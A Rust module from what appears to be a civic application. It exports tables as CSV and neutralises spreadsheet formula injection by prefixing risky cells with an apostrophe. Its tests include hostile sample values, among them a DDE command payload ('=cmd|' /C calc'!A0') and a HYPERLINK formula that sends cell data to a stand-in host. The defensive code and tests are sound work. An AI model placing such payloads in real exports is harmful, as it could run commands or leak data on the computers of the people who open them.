//! Tables as CSV files: for people who open them in an office program, and for programs.
//!
//! The file is UTF-8 with a byte order mark, without which Excel takes umlauts for two letters
//! each, and with the line ends of RFC 4180. There is no separator that all programs understand:
//! see [`Separator`].
//!
//! A resident's text may look like a formula and would be run on the clerk's computer (CWE-1236).
//! Such texts get an apostrophe in front, which office programs take for "this is text". A number
//! is never changed, as it comes from us and has a type of its own.

use std::borrow::Cow;

use chrono::NaiveDate;

use crate::base::locale::Lang;

/// Opens a UTF-8 file so that office programs know it for one.
const BYTE_ORDER_MARK: &str = "\u{feff}";

/// What stands between two cells.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Separator {
    /// The rule of RFC 4180 and what programs and data portals expect: for interfaces, command
    /// line and pages in English.
    #[default]
    Comma,
    /// What office programs set to German (and most other languages of Europe, where the comma
    /// belongs to numbers) split at when a file is opened by double click: for pages in German.
    Semicolon,
}

impl Separator {
    /// What office programs in that language split at.
    pub fn of(lang: Lang) -> Self {
        match lang {
            Lang::De => Self::Semicolon,
            Lang::En => Self::Comma,
        }
    }

    fn byte(self) -> u8 {
        match self {
            Self::Comma => b',',
            Self::Semicolon => b';',
        }
    }
}

/// One cell of a table. Made with `into()` from texts, whole numbers, dates and options of them.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Cell<'a> {
    /// Nothing: not asked, not answered, or hidden.
    Empty,
    /// Text from anywhere; it is made harmless when it is written.
    Text(Cow<'a, str>),
    /// A whole number.
    Number(i128),
    /// A day, written as 2026-07-17, which sorts and is read alike everywhere.
    Day(NaiveDate),
}

impl<'a> Cell<'a> {
    /// As a workbook holds it, where a text is a text and never a formula.
    pub fn plain(&'a self) -> Cow<'a, str> {
        match self {
            Self::Text(text) => Cow::Borrowed(text),
            other => other.written(),
        }
    }

    fn written(&'a self) -> Cow<'a, str> {
        match self {
            Self::Empty => Cow::Borrowed(""),
            Self::Text(text) => harmless(text),
            Self::Number(number) => Cow::Owned(number.to_string()),
            Self::Day(day) => Cow::Owned(day.format("%Y-%m-%d").to_string()),
        }
    }
}

impl<'a> From<&'a str> for Cell<'a> {
    fn from(text: &'a str) -> Self {
        Self::Text(Cow::Borrowed(text))
    }
}

impl From<String> for Cell<'_> {
    fn from(text: String) -> Self {
        Self::Text(Cow::Owned(text))
    }
}

impl From<NaiveDate> for Cell<'_> {
    fn from(day: NaiveDate) -> Self {
        Self::Day(day)
    }
}

impl<'a, T: Into<Cell<'a>>> From<Option<T>> for Cell<'a> {
    fn from(cell: Option<T>) -> Self {
        cell.map_or(Self::Empty, Into::into)
    }
}

macro_rules! cell_from_number {
    ($($number:ty),*) => {$(
        impl From<$number> for Cell<'_> {
            fn from(number: $number) -> Self {
                Self::Number(number.into())
            }
        }
    )*};
}
cell_from_number!(u8, u16, u32, u64, i16, i32, i64);

/// Writes a table as a CSV file.
///
/// Fails when a row has not as many cells as the header: such a file would put answers under the
/// wrong question.
pub fn csv<'a>(
    separator: Separator,
    header: &[&str],
    rows: impl IntoIterator<Item = Vec<Cell<'a>>>,
) -> Result<Vec<u8>, csv::Error> {
    let mut writer = csv::WriterBuilder::new()
        .delimiter(separator.byte())
        .terminator(csv::Terminator::CRLF)
        .from_writer(BYTE_ORDER_MARK.as_bytes().to_vec());
    writer.write_record(header.iter().map(|name| harmless(name).into_owned()))?;
    for row in rows {
        writer.write_record(row.iter().map(|cell| cell.written().into_owned()))?;
    }
    writer
        .into_inner()
        .map_err(|error| error.into_error().into())
}

/// A table as CSV for programs, written row by row: without the mark at its beginning.
pub struct Rows<W: std::io::Write>(csv::Writer<W>);

impl<W: std::io::Write> Rows<W> {
    /// Begins with the header.
    pub fn begin(to: W, separator: Separator, header: &[&str]) -> Result<Self, csv::Error> {
        let mut writer = csv::WriterBuilder::new()
            .delimiter(separator.byte())
            .terminator(csv::Terminator::CRLF)
            .from_writer(to);
        writer.write_record(header.iter().map(|name| harmless(name).into_owned()))?;
        Ok(Self(writer))
    }

    /// Writes a row. Fails when it has not as many cells as the header.
    pub fn row(&mut self, cells: &[Cell<'_>]) -> Result<(), csv::Error> {
        for cell in cells {
            self.0.write_field(cell.written().as_bytes())?;
        }
        self.0.write_record(None::<&[u8]>)
    }

    /// Writes what is left.
    pub fn end(mut self) -> Result<(), csv::Error> {
        Ok(self.0.flush()?)
    }
}

/// A text that no office program takes for a formula.
///
/// An apostrophe goes before `=`, `+`, `-`, `@` and their wide forms where a cell begins, with or
/// without white space before them, and before a leading tab or line break. A program that splits
/// at another separator than ours sees cells begin inside a text too, so the same is done after
/// separators and line breaks; there a dash with a space behind it is left, as people write lists.
fn harmless(text: &str) -> Cow<'_, str> {
    let mut result = String::new();
    let mut copied = 0;
    let mut before = None;
    if text.starts_with(['\t', '\r', '\n'])
        || text.trim_start_matches(is_blank).starts_with(is_trigger)
    {
        result.push('\'');
        // The first sign is dealt with, whatever follows.
        before = Some('\'');
    }
    for (at, sign) in text.char_indices() {
        let begins = before.is_some_and(|before| matches!(before, ',' | ';' | '\t' | '\r' | '\n'));
        let item = matches!(sign, '-' | '+') && text[at + 1..].starts_with(' ');
        if begins && is_trigger(sign) && !item {
            result.push_str(&text[copied..at]);
            result.push('\'');
            copied = at;
        }
        before = Some(sign);
    }
    if result.is_empty() {
        return Cow::Borrowed(text);
    }
    result.push_str(&text[copied..]);
    Cow::Owned(result)
}

/// Whether a formula can begin with this sign. East Asian office programs know the wide forms.
fn is_trigger(sign: char) -> bool {
    matches!(sign, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠')
}

/// White space and other signs that cannot be seen and that a program may drop before it looks.
fn is_blank(sign: char) -> bool {
    sign.is_whitespace()
        || sign.is_control()
        || matches!(sign, '\u{200b}'..='\u{200f}' | '\u{feff}')
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn one_cell(text: &str) -> Result<String, csv::Error> {
        let file = csv(Separator::Comma, &["text"], [vec![text.into()]])?;
        let mut reader = csv::Reader::from_reader(&file[BYTE_ORDER_MARK.len()..]);
        let record = reader.records().next().transpose()?;
        Ok(record
            .and_then(|record| record.get(0).map(String::from))
            .unwrap_or_default())
    }

    #[test]
    fn a_table_with_all_kinds_of_cells() -> Result<(), csv::Error> {
        let day = NaiveDate::from_ymd_opt(2026, 7, 17);
        let rows = [
            vec!["Ja; \"gern\", oft".into(), (-3_i64).into(), day.into()],
            vec![
                String::from("Zeile 1\nZeile 2").into(),
                7_u64.into(),
                Cell::Empty,
            ],
        ];
        let file = csv(Separator::Semicolon, &["Wort", "Zahl", "Tag"], rows)?;
        let expected = "\u{feff}Wort;Zahl;Tag\r\n\"Ja; \"\"gern\"\", oft\";-3;2026-07-17\r\n\
                        \"Zeile 1\nZeile 2\";7;\r\n";
        assert_eq!(String::from_utf8_lossy(&file), expected);
        Ok(())
    }

    #[test]
    fn formulas_become_text_and_words_stay_words() -> Result<(), csv::Error> {
        for hostile in [
            "=1+1",
            "+49 7071",
            "-2",
            "@SUM(A1)",
            "\t 1",
            "\r1",
            "\n1",
            "  =1",
            "\u{feff}=1",
            "＝1",
            "=HYPERLINK(\"https://example.org?\"&A1)",
            "- ein Wunsch",
            "\tx",
        ] {
            assert_eq!(one_cell(hostile)?, format!("'{hostile}"));
        }
        assert_eq!(
            one_cell("gut;=cmd|' /C calc'!A0;x")?,
            "gut;'=cmd|' /C calc'!A0;x"
        );
        assert_eq!(one_cell("gut\r\n=1\n-2")?, "gut\r\n'=1\n'-2");
        for harmless in [
            "",
            "'",
            "Mehr Bäume!",
            "a=b",
            "Liste:\n- Bank\n- Baum",
            "Nord-Süd",
            "5 - 2",
        ] {
            assert_eq!(one_cell(harmless)?, harmless);
        }
        Ok(())
    }

    #[test]
    fn names_of_columns_are_texts_too() -> Result<(), csv::Error> {
        let file = csv(Separator::Comma, &["=1"], [])?;
        assert_eq!(String::from_utf8_lossy(&file), "\u{feff}'=1\r\n");
        assert!(csv(Separator::Comma, &["a", "b"], [vec![Cell::Empty]]).is_err());
        Ok(())
    }

    proptest! {
        #[test]
        fn no_program_finds_a_formula(
            texts in prop::collection::vec("[-=+@;,\t\r\n\"' a|(＝]{0,9}", 1..4), semicolon: bool,
        ) {
            let separator = if semicolon { Separator::Semicolon } else { Separator::Comma };
            let header = vec!["x"; texts.len()];
            let row: Vec<Cell<'_>> = texts.iter().map(|text| text.as_str().into()).collect();
            let file = csv(separator, &header, [row]);
            let Ok(file) = file else {
                return Err(TestCaseError::fail("not written"));
            };
            let file = &file[BYTE_ORDER_MARK.len()..];
            // Read with the right separator, and with each wrong one and no idea of quotes.
            for delimiter in [b',', b';', b'\t'] {
                let right = delimiter == separator.byte();
                let mut reader = csv::ReaderBuilder::new();
                let reader = reader.delimiter(delimiter).quoting(right).flexible(true);
                for record in reader.from_reader(file).records().flatten() {
                    for cell in &record {
                        let item = !right && (cell.starts_with("- ") || cell.starts_with("+ "));
                        prop_assert!(item || !cell.starts_with(is_trigger), "{:?}", cell);
                    }
                }
            }
            // Nothing but apostrophes is added.
            let mut reader = csv::ReaderBuilder::new();
            let mut reader = reader.delimiter(separator.byte()).from_reader(file);
            if let Some(Ok(record)) = reader.records().next() {
                for (cell, text) in record.iter().zip(&texts) {
                    prop_assert_eq!(cell.replace('\'', ""), text.replace('\'', ""));
                }
            }
        }
    }
}
